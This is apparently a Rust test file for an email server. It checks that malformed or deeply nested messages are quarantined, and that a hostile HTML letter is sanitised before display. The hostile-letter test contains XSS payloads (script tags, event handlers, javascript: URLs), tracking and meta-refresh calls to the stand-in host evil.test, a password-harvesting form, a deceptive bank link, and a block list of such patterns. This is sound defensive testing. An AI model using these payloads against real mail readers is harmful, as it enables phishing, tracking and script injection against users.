//! Letters that can't be read, and letters that should better not be.

use anyhow::{Context, Result, bail, ensure};
use baton_domain::BlobId;
use baton_protocol::{Body, Quarantined, Reply, Request, ThreadItem};
use baton_tests::clock::TestClock;
use baton_tests::mail::{MailHost, Seed, address};
use baton_tests::process::eventually;
use baton_tests::server::{Database, ServerProcess};
use baton_tests::wire::Wire;

use crate::desk::Desk;
use crate::team::{PASSWORD, SALES, SOON, address_of};

/// More messages in one another than any digest has.
const NESTED: usize = 401;

/// A desk beside a connected mailbox.
struct Place {
    desk: Desk,
    mail: MailHost,
    clock: TestClock,
    server: ServerProcess,
}

impl Place {
    async fn new(database: Database) -> Result<Self> {
        let clock = TestClock::new()?;
        let mail = MailHost::start().await?;
        let mut server = ServerProcess::prepare(database, &clock)?;
        server.add_member("Ada", &address_of("Ada"), "admin", PASSWORD).await?;
        server.connect_mailbox(&mail, SALES, "Sales", "together").await?;
        server.restart().await?;
        let desk = Desk::new("Ada", Wire::to(server.port()).await?).await?;
        desk.join().await?;
        Ok(Self {
            desk,
            mail,
            clock,
            server,
        })
    }

    /// Letters lie in the mailbox as they are: no mail server on the way mends them.
    async fn come(&self, letters: &[Vec<u8>]) -> Result<()> {
        let now = self.clock.now_ms()?;
        let seeds: Vec<Seed> = letters.iter().map(|raw| Seed::new(raw, now, &[])).collect();
        self.mail.seed(SALES, "INBOX", &seeds).await
    }

    /// The body of the first message about `subject`, as the window would show it.
    async fn body(&self, subject: &str) -> Result<Body> {
        let opened = self.desk.look(self.desk.find(subject).await?).await?;
        let first = opened.thread.iter().find_map(|item| match item {
            ThreadItem::Message { message, .. } => Some(message.id),
            _ => None,
        });
        let body = Request::Body {
            message: first.context("a message")?,
            remote_images: false,
        };
        match self.desk.ask(body).await? {
            Reply::Body(body) => Ok(body),
            other => bail!("{other:?}"),
        }
    }
}

fn letter(subject: &str, kind: &str, body: &str) -> Vec<u8> {
    format!(
        "From: Carl <carl@baton.test>\r\nTo: {SALES}@baton.test\r\nSubject: {subject}\r\n\
         Message-ID: <{}@customer.test>\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n{body}",
        subject.replace(' ', "-")
    )
    .into_bytes()
}

/// What can't be read at all is kept with its bytes and the reason in words; what is only half broken is read as far as it goes.
pub async fn broken(database: Database) -> Result<()> {
    let place = Place::new(database).await?;
    let within = "--x\r\nContent-Type: message/rfc822\r\n\r\nSubject: again\r\n\r\nAgain.\r\n".repeat(NESTED);
    let unreadable = letter("Nested", "multipart/digest; boundary=x", &format!("{within}--x--\r\n"));
    let cut_off = letter(
        "Cut off",
        "multipart/mixed; boundary=y",
        "--y\r\nContent-Type: text/plain; charset=no-such-charset\r\n\r\nStill to be read.\r\n--y\r\n\
         Content-Type: application/pdf; name=offer.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQ*",
    );
    let fine = letter("Desks", "text/plain", "What do desks cost?\r\n");
    place.come(&[unreadable.clone(), cut_off, fine]).await?;

    let body = place.body("Desks").await?;
    ensure!(body.text.contains("What do desks cost?"), "{body:?}");
    let body = place.body("Cut off").await?;
    ensure!(body.text.contains("Still to be read."), "{body:?}");
    ensure!(body.attachments.len() == 1, "{body:?}");

    let kept = eventually("the letter nobody can read", SOON, async || {
        match place.desk.ask(Request::Quarantine).await? {
            Reply::Quarantine(kept) => Ok(kept.into_iter().next()),
            other => bail!("{other:?}"),
        }
    })
    .await?;
    ensure!(kept.why.contains("too many messages"), "{kept:?}");
    ensure!(
        holds(&place, &kept, &unreadable)?,
        "its bytes are not what came: {kept:?}"
    );
    let balance = place.server.cli(&["balance"], "").await?;
    ensure!(balance.contains(&address(SALES)), "{balance}");
    eventually("received = accounted for", SOON, async || {
        let Reply::Health(health) = place.desk.ask(Request::Health).await? else {
            bail!("no health");
        };
        let counted = health.iter().filter_map(|row| row.balance.as_ref());
        let counted: Vec<_> = counted
            .map(|one| (one.received, one.imported, one.quarantined))
            .collect();
        Ok((counted == [(3, 2, 1)]).then_some(()))
    })
    .await?;
    Ok(())
}

/// Whether what lies in quarantine is the letter, which the mailbox gave a date.
fn holds(place: &Place, kept: &Quarantined, letter: &[u8]) -> Result<bool> {
    let id: &BlobId = kept.blob.as_ref().context("its bytes")?;
    let name = id.as_str();
    let shelf = name.get(..1).context("a shelf")?;
    let bytes = std::fs::read(place.server.data().join("blobs").join(shelf).join(name))?;
    Ok(bytes.ends_with(letter))
}

/// Everything that an HTML letter could do to its reader is gone; what it says is there.
pub async fn hostile(database: Database) -> Result<()> {
    let place = Place::new(database).await?;
    let html = r#"<html><head><meta http-equiv="refresh" content="0;url=http://evil.test/"><base href="http://evil.test/">
<style>@import url(http://evil.test/a.css); p { background: url(http://evil.test/b.png) }</style></head>
<body onload="alert(1)"><p>We need <b>forty</b> desks.</p><script>alert(2)</script>
<img src="http://evil.test/pixel.gif" onerror="alert(3)"><svg onload="alert(4)"><script>alert(5)</script></svg>
<iframe src="http://evil.test/frame"></iframe><object data="http://evil.test/o"></object>
<form action="http://evil.test/take"><input name="password"><button formaction="javascript:alert(6)">Go</button></form>
<a href="javascript:alert(7)">Press</a> <a href="http://evil.test/">https://bank.example</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;behavior:url(x)">over all</div></body></html>"#;
    place
        .come(&[letter("Hostile", "text/html; charset=utf-8", html)])
        .await?;
    let body = place.body("Hostile").await?;
    ensure!(body.text.contains("forty"), "{body:?}");
    let shown = body.html.as_deref().context("something to show")?;
    ensure!(shown.contains("<b>forty</b>"), "{shown}");
    let lower = shown.to_lowercase();
    let teeth = [
        "<script",
        "alert(",
        "javascript:",
        "onload",
        "onerror",
        "<iframe",
        "<object",
        "<form",
        "<input",
        "<base",
        "http-equiv=\"refresh",
        "@import",
        "position:fixed",
        "position: fixed",
        "behavior",
        " src=\"http://evil",
        "url(http://evil",
    ];
    for tooth in teeth {
        ensure!(!lower.contains(tooth), "{tooth} is still in {shown}");
    }
    ensure!(body.blocked_images > 0, "no image was blocked: {body:?}");
    let trick = body.links.iter().find(|link| link.shown.contains("bank.example"));
    ensure!(
        trick.is_some_and(|link| link.suspicious.is_some()),
        "a link that lies is not told: {:?}",
        body.links
    );
    Ok(())
}
